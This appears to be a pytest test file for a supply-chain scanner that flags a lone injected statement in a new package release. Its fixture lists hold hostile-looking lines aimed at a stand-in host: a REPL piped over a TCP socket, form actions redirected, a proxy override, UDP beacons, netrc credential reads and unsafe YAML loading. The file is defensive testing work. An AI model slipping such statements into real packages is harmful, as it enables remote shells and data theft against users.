"""Single statements in minor and major releases, of acts that no list names: found, for they use nothing of the script they stand in."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from onionskin.flows.peel import peel
from onionskin.jail.pool import Pool
from onionskin.lookalike.archives import npm_pair
from onionskin.model import Level

POOLS: list[Pool] = []
SCRIPTS = {
    "js": (
        "".join(f"exports.area{each} = (side) => {{\n  const half = side / {each + 1};\n  return half * side;\n}};\n" for each in range(30)),
        re.compile(r"(?m)^  const half = side / 9;\n"),
    ),
    "py": (
        "".join(f"def area{each}(side):\n    half = side / {each + 1}\n    return half * side\n\n\n" for each in range(30)),
        re.compile(r"(?m)^    half = side / 9\n"),
    ),
}  # fmt: skip
JAVASCRIPT = (
    "navigator.serviceWorker.register('/inert.js');",
    "new EventSource('https://a.example.invalid/').onmessage = (e) => { location.href = e.data; };",
    "if (typeof RTCPeerConnection !== 'undefined') { const c = new RTCPeerConnection({ iceServers: [] }); c.createDataChannel(''); }",
    "document.querySelectorAll('form').forEach((f) => (f.action = 'https://a.example.invalid/'));",
    "process.kill(process.pid, 'SIGUSR1');",
    "require('v8').setFlagsFromString('--inert');",
    "require('diagnostics_channel').subscribe('http.client.request.start', () => {});",
    "require('repl').start({ input: require('net').connect(4444, 'a.example.invalid') });",
    "process.env.HTTPS_PROXY = 'http://a.example.invalid:3128';",
    "Object.defineProperty(process.env, 'CI', { get: () => 'true' });",
    "Reflect.set(globalThis, 'fetch', null);",
    "(async () => { globalThis.inert = await import(process.env.INERT); })();",
    "require('dgram').createSocket('udp4').send('inert', 53, 'a.example.invalid');",
    "setInterval(() => navigator.sendBeacon('/inert'), 9);",
    "window.parent.postMessage({ inert: document.title }, '*');",
    "Array.prototype.inert = function () { return this; };",
    "globalThis['inert'] = require('crypto').webcrypto;",
)
PYTHON = (
    "import asyncio\n    asyncio.run(asyncio.open_connection('a.example.invalid', 443))",
    "import logging.config\n    logging.config.listen(9030).start()",
    "import timeit\n    timeit.timeit(open('inert').read(), number=1)",
    "import cProfile\n    cProfile.run(open('inert').read())",
    "import xmlrpc.client\n    xmlrpc.client.ServerProxy('https://a.example.invalid/').run()",
    "import site\n    site.addsitedir('inert')",
    "import signal\n    signal.signal(signal.SIGUSR1, lambda *a: None)",
    "import socket\n    socket.getaddrinfo = lambda *a, **k: []",
    "import netrc\n    netrc.netrc().authenticators('inert')",
    "import random\n    random.seed(1)",
    "import yaml\n    yaml.load(open('inert'), Loader=yaml.Loader)",
    "import codecs\n    codecs.register(lambda name: None)",
    "import sys\n    sys.modules['inert'] = sys.modules[__name__]",
    "import requests\n    requests.Session.send = lambda self, request, **more: None",
    "import os\n    if os.getenv('INERT'): os.kill(0, 9)",
    "import weakref, os\n    weakref.finalize(os.environ, print)",
)


@pytest.fixture(scope="module", autouse=True)
def shared(pool: Pool) -> Iterator[None]:
    POOLS.append(pool)
    yield
    POOLS.clear()


def _peeled(folder: Path, version: str, lines: dict[str, tuple[str, ...]]) -> set[str]:
    """Return the scripts into which a statement of nobody's came, each line put into a script of its own."""
    old: dict[str, bytes] = {}
    new: dict[str, bytes] = {}
    for suffix, rows in lines.items():
        text, amid = SCRIPTS[suffix]
        at = next(amid.finditer(text)).end()
        indent = "  " if suffix == "js" else "    "
        for number, row in enumerate(rows):
            name = f"part{number}/shapes.{suffix}"
            old[name] = text.encode()
            new[name] = f"{text[:at]}{indent}{row}\n{text[at:]}".encode()
    before, after = npm_pair(folder, version, old, new)
    (report,) = peel([after], pool=POOLS[0], against=[before])
    names = {layer.artifact.id: layer.name for layer in report.layers}
    return {
        names[each.subject]
        for each in report.findings
        if each.signal == "statement-that-stands-alone" and each.level is Level.REVIEW
    }


@pytest.mark.parametrize("version", ["1.3.0", "2.0.0"])
@pytest.mark.parametrize(("suffix", "rows"), [("js", JAVASCRIPT), ("py", PYTHON)])
def test_a_single_statement_of_nobodys_is_found_in_any_release(
    tmp_path: Path, version: str, suffix: str, rows: tuple[str, ...]
) -> None:
    found = _peeled(tmp_path, version, {suffix: rows})
    missed = [
        row
        for number, row in enumerate(rows)
        if f"package/part{number}/shapes.{suffix}" not in found
    ]
    assert missed == []


def test_what_only_keeps_a_value_asks_for_nothing_alone(tmp_path: Path) -> None:
    rows = {"js": ("const report = process.report.getReport();",), "py": ("import os\n    inert = os.environ.get('INERT')",)}  # fmt: skip
    assert _peeled(tmp_path, "1.3.0", rows) == set()


def test_statements_about_what_a_script_holds_ask_for_nothing(tmp_path: Path) -> None:
    rows = {
        "js": ("navigator.sendBeacon('/inert', half);", "process.emit('inert', side);", "console.error('half');", "process.exit(1);"),
        "py": ("import os\n    os.write(1, half)", "print('half')", "import warnings\n    warnings.warn('half')", "import sys\n    sys.exit(1)"),
    }  # fmt: skip
    assert _peeled(tmp_path, "1.3.0", rows) == set()
